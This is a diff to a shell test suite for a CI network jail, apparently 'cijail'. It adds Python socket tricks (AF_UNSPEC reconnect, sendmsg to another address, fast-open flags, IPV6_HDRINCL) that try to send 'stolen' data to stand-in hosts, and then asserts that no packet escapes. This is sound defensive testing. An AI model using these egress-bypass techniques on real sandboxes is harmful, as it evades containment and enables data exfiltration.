@@ -32,7 +32,8 @@ t_match "$out" '^raw-2-255 ok$' # the twin: in a network of one's own
 
 t_case 'every trick of a socket that needs no privilege: nothing leaves, and the build goes on'
 cat >tricks.py <<'END'
-import errno, os, socket, struct, subprocess
+import ctypes, errno, os, socket, struct, subprocess
+libc = ctypes.CDLL(None)
 V4, V6, UDP, TCP = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_STREAM
 there = {V4: "198.51.100.66", V6: "2001:db8:10::66"}
 gateway = {V4: "192.0.0.1", V6: "fd63:696a:6169:6c::1"}
@@ -70,6 +71,18 @@ def fragments(family, to, port):
     s = new(family, UDP); return send(s, (to, port), os.urandom(6000))
 def fast_open(family):
     s = socket.socket(family, TCP); s.sendto(b"stolen", 0x20000000, (there[family], 999))
+def unspec(family, kind):  # connect(2): "dissolve the association", and then another one, by the same socket
+    s = new(family, kind); s.connect((gateway[family], 53 if kind == UDP else 3128))
+    print("dissolved", libc.connect(s.fileno(), bytes(28), 28))
+    if kind == UDP: return send(s, (there[family], 80))
+    s.connect((there[family], 999))
+def other_address(family, flags):  # of a connection that is there
+    s = new(family, TCP); s.connect((gateway[family], 3128))
+    try: s.sendmsg([b"stolen"], [], flags, (there[family], 999))
+    finally: s.shutdown(socket.SHUT_RDWR)
+    s.sendto(b"stolen", flags, (there[family], 999))
+def own_head():  # IPV6_HDRINCL
+    s = new(V6, UDP); s.setsockopt(socket.IPPROTO_IPV6, 36, 1); send(s, (there[V6], 80))
 def from_port(family, port, to):
     s = new(family, UDP); s.bind(("", port)); send(s, (there[family], to))
 def protocol(family, kind, number):
@@ -89,9 +102,12 @@ for family, addresses in ((V4, ("192.0.2.10", "127.0.0.1", "192.0.0.1", "198.51.
     attempt("fragments to the gateway", lambda: fragments(family, gateway[family], 53))
     attempt("fast open", lambda: fast_open(family))
     attempt("device", lambda: device(family))
+    for kind in UDP, TCP: attempt(f"AF_UNSPEC {kind}", lambda: unspec(family, kind))
+    for flags in 0, 0x20000000: attempt(f"other address {flags}", lambda: other_address(family, flags))
     for port, to in (53, 53), (3128, 80), (3129, 443), (53, 12345): attempt(f"from port {port}", lambda: from_port(family, port, to))
     for kind, number in (TCP, 132), (5, 132), (6, 33), (UDP, 136), (TCP, 262): attempt(f"protocol {number}", lambda: protocol(family, kind, number))
     attempt("late answers", lambda: errors(family))
+attempt("own head", own_head)
 print(subprocess.run(["curl", "-sS", "-m", "20", "https://registry.example/pkg/lodash"], stdout=subprocess.PIPE, text=True).stdout, end="")
 END
 wire_start
@@ -99,6 +115,7 @@ run cijail -q -- python3 tricks.py
 wire_stop
 t_match "$out" '^a package$'
 t_match "$out" '^fast open ENETUNREACH$'
+t_count 4 "$out" '^dissolved 0$'
 t_no_match "$(grep -v 'to the gateway' <<<"$out")" "done b'"
 t_no_match "$WIRE" '(198\.51\.100\.66|2001:db8:10::66)'
 t_no_match "$WIRE" '> [0-9a-f.:]+\.(80|999|3128|12345|5353): '
